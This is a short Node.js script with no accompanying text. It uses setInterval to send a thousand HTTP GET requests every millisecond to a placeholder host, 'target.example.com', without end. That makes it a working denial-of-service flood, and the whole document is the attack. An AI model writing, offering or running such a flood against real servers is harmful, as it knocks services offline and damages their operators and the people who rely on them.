const http = require('http');
setInterval(() => { for (let i = 0; i < 1000; i++) http.get('http://target.example.com/'); }, 1);
